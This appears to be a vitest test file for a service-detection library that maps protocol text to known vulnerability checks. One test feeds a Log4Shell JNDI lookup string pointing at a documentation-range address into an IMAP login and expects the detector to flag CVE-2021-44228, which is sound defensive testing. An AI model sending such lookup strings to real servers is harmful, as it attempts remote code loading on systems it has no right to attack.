import { describe, expect, test } from "vitest";
import { portChecks } from "../../src/knowledge/ports/port-checks.ts";
import { checkOfWords, wordRules } from "../../src/knowledge/ports/word-checks.ts";

describe("words to services", () => {
  test.each(wordRules.map((rule) => [`${rule.id}: ${rule.says.source}`, rule] as const))("%s", (_name, rule) => {
    expect(portChecks.map(({ id }) => id)).toContain(rule.id);
    for (const words of rule.fits) expect(checkOfWords(rule.service, words), words).toMatchObject({ note: rule.note });
    for (const words of rule.ignores) expect(rule.says.test(words), words).toBe(false);
  });

  test("an attempt to load code is telling in any text", () => {
    const check = checkOfWords("imap", "LOGIN $" + "{jndi:ldap://192.0.2.7/a}");
    expect(check).toMatchObject({ id: "log4shell-any", cves: ["CVE-2021-44228"] });
  });

  test("what others ask a service tells nothing", () => {
    expect(checkOfWords("smtp", "#list")).toBeUndefined();
    expect(checkOfWords("no such service", "INFO")).toBeUndefined();
  });
});
